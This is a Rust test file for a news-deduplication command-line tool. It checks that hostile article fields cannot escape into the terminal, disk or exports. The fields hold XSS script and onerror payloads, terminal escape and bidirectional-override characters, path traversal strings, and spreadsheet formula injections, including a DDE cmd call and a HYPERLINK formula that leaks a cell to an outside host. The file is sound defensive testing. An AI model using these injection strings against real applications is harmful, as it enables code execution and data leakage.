//! Hostile articles change only their own text: nothing on the terminal, in the tables or on disk.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use serde_json::{Value, json};

use crate::articles::{FERRY, LIBRARY, cut, lines};
use crate::program::Desk;

/// Texts that would do harm if they were interpreted.
fn hostile_words() -> Vec<String> {
    let words = [
        "</script><script>document.title='taken'</script>",
        "<img src=x onerror=\"document.title='taken'\">",
        "javascript:document.title='taken'",
        "\u{202e}drowkcab\u{202c}\u{2066}\u{200f}",
        "\u{1b}[2J\u{1b}]0;taken\u{7}\u{9b}31m",
        "=HYPERLINK(\"http://x.example/?\"&A1,\"a, b\")",
        "@SUM(A:A)*cmd|' /C calc'!A",
        "../../../taken",
        "/taken",
        "nul \u{0} and\r\nnew\tlines",
    ];
    let mut words: Vec<String> = words.map(str::to_owned).into();
    words.push("x".repeat(1 << 20));
    words
}

/// One story with each of these texts, in every field.
fn corpus() -> Vec<Value> {
    let hostile = hostile_words();
    let article = |(place, words): (usize, &String)| {
        json!({
            "id": format!("{words}{place}"), "outlet": format!("{words}{place}"), "title": words, "byline": words,
            "url": words, "date": words, "language": words,
            "body": format!("{FERRY}\nThe mayor said: {words} to all of them."),
        })
    };
    let mut articles: Vec<Value> = hostile.iter().enumerate().map(article).collect();
    // A harmless story, and a duplicate.
    articles.push(
        json!({ "id": "plain", "outlet": "gazette.example", "title": "Opened", "body": LIBRARY }),
    );
    articles.push(json!({ "id": "=1+1", "outlet": "herald.example", "title": "Opened", "body": cut(LIBRARY, 1) }));
    articles
}

fn clustered(desk: &Desk) -> String {
    desk.put("in/news.jsonl", lines(&corpus()));
    let said = desk.run("cluster in -o out --pairs --singletons").done();
    said.stdout + &said.stderr
}

/// All files in a folder, by relative path.
fn files(folder: &Path) -> BTreeSet<String> {
    let mut found = BTreeSet::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(next) = folders.pop() {
        for entry in fs::read_dir(next).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else {
                found.insert(path.strip_prefix(folder).unwrap().display().to_string());
            }
        }
    }
    found
}

#[track_caller]
fn assert_harmless(said: &str) {
    let turns = |character| matches!(character, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let found = said.chars().find(|&one| one != '\n' && (one.is_control() || turns(one)));
    assert_eq!(found, None, "{said}");
    assert!(said.len() < 20_000, "{} bytes", said.len());
}

#[test]
fn output_never_moves_the_cursor_or_reverses_text() {
    let desk = Desk::new();
    assert_harmless(&clustered(&desk));
    for command in ["report out", "dedup out -o clean", "eval out --gold in/news.jsonl"] {
        let said = desk.run(command);
        assert_harmless(&(said.stdout + &said.stderr));
    }
    for (place, words) in hostile_words()
        .iter()
        .enumerate()
        .filter(|(_, words)| !words.contains('\0') && words.len() < 100)
    {
        let id = format!("{words}{place}");
        let output = desk.command("explain out").arg(id).arg("plain").output().unwrap();
        assert!(output.status.success(), "{words}");
        assert_harmless(&String::from_utf8(output.stdout).unwrap());
    }
    let said = desk.run("explain out \u{1b}[2J\u{202e} plain");
    assert_eq!(said.exit, 2);
    assert_harmless(&said.stderr);
}

#[test]
fn rejected_record_is_shown_safely() {
    let desk = Desk::new();
    let broken = "{\"id\": \"\u{1b}[2J\u{202e}\", \u{7} </script>\n";
    desk.put("in/\u{1b}[2J.jsonl", lines(&corpus()) + broken + &broken.replace("id", "body"));
    let said = desk.run("cluster in -o out --max-bad 50").done();
    assert_harmless(&(said.stdout + &said.stderr));
    assert_eq!(desk.rows("out/rejects.jsonl").len(), 2);
}

#[test]
fn tables_have_every_text_as_written() {
    let desk = Desk::new();
    clustered(&desk);
    let corpus = corpus();
    let rows = desk.rows("out/members.jsonl");
    assert_eq!(rows.len(), corpus.len());
    let mut csv = csv::Reader::from_path(desk.path("out/members.csv")).unwrap();
    let header = csv.headers().unwrap().clone();
    let place = |name: &str| header.iter().position(|column| column == name).unwrap();
    for (row, cells) in rows.iter().zip(csv.records()) {
        let cells = cells.unwrap();
        let article = corpus.iter().find(|article| article["id"] == row["id"]).unwrap();
        for (column, field) in
            [("id", "id"), ("headline", "title"), ("url", "url"), ("byline", "byline")]
        {
            assert_eq!(row[column], article[field], "{column}");
            assert_eq!(&cells[place(column)], row[column].as_str().unwrap_or_default(), "{column}");
        }
        assert_eq!(row["published"], Value::Null);
    }
}

#[test]
fn dedup_writes_only_to_the_output_folder() {
    let desk = Desk::new();
    clustered(&desk);
    let before = files(desk.path("").as_path());
    let said =
        desk.run("dedup out -o clean --remove verbatim,edited,excerpt,extended").done().stdout;
    assert!(said.contains("2 kept + 11 removed = 13 read   copies of 2 stories"), "{said}");
    let mut after = files(desk.path("").as_path());
    after.retain(|file| !before.contains(file));
    assert_eq!(after.into_iter().collect::<Vec<_>>(), ["clean/news.jsonl", "clean/removed.csv"]);
    let written = lines(&corpus());
    assert!(
        desk.read("clean/news.jsonl").lines().all(|line| written.lines().any(|one| one == line))
    );
}

#[test]
fn exports_escape_the_texts_as_their_formats_require() {
    let desk = Desk::new();
    clustered(&desk);
    let before = files(desk.path("").as_path());
    let xml = desk.run("export out --to graphml").done().stdout;
    assert_eq!(xml.matches("<node ").count(), corpus().len());
    assert!(!xml.contains("<script") && !xml.contains("<img"));
    assert!(!xml.chars().any(|one| one.is_control() && !"\n\u{9b}".contains(one)), "{xml}");
    desk.run("export out --to gephi -o network").done();
    let nodes = csv::Reader::from_path(desk.path("network/outlet_nodes.csv")).unwrap();
    assert!(nodes.into_records().all(|row| row.unwrap().len() == 5));
    for format in ["json", "datatrove"] {
        let said = desk.run(&format!("export out --to {format}")).done().stdout;
        assert!(said.lines().all(|line| serde_json::from_str::<Value>(line).is_ok()), "{format}");
    }
    let pairs = desk.run("export out --to dup-ref").done().stdout;
    let mut pairs = csv::Reader::from_reader(pairs.as_bytes());
    assert_eq!(pairs.records().filter(|row| row.as_ref().unwrap().len() == 2).count(), 11);
    let mut after = files(desk.path("").as_path());
    after.retain(|file| !before.contains(file));
    assert_eq!(after.len(), 2);
}
